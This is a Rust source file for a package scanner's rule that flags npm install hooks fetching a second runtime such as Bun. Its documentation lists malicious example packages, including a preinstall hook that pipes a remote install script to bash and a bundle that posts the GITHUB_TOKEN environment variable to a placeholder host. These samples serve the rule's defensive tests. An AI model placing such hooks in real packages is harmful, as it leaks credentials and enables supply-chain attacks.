//! # Another runtime is fetched at install
//!
//! A hook, or code that a hook starts, downloads or installs Bun, Deno or another Node.
//!
//! ## Why it matters
//!
//! Worms since 2025 run their payload in a runtime of their own, where hooks and monitors of Node do not see
//! it, and where a bundle of ten megabytes starts at once.
//!
//! ## Known benign uses
//!
//! Packages whose purpose is the runtime: `bun`, `deno`, `node` and version managers. A library never needs
//! one at install.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const { execSync } = require("child_process");
//! execSync("curl -fsSL https://bun.sh/install | bash", { stdio: "ignore" }); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "npm install -g bun && bun run bundle.js"}} //~ here
//! == bundle.js
//! fetch("https://drop.invalid/", { method: "POST", body: process.env.GITHUB_TOKEN });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"test": "bun test", "build": "bun build index.js"}}
//! == index.js
//! exports.runtime = typeof Bun === "undefined" ? "node" : "bun";
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud 2.0 supply chain attack (November 2025)

use crate::prelude::*;

/// Another runtime is fetched at install.
pub struct SecondRuntimeFetched;

impl Rule for SecondRuntimeFetched {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "second-runtime-fetched",
            title: "Another runtime is fetched at install",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &["runtime-download-bun"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let name = facts.manifest().and_then(|manifest| manifest.name.as_deref()).unwrap_or_default();
        // A project decides for itself what its own machines need.
        if facts.context().origin == Origin::Project {
            return;
        }
        for command in facts.commands().iter().filter(|command| command.trigger == Trigger::Install) {
            for kind in &command.behaviours {
                if let BehaviourKind::RunsRuntimeDownload { runtime } = kind
                    && !is_for(name, runtime)
                {
                    found.at(command.trigger, &command.locus, &format!("fetches the runtime `{runtime}`"));
                }
            }
        }
    }
}

/// Whether a package of this name is there to bring the runtime.
fn is_for(name: &str, runtime: &str) -> bool {
    let bare = name.rsplit('/').next().unwrap_or(name);
    bare.split(['-', '_', '.']).any(|word| word == runtime)
}
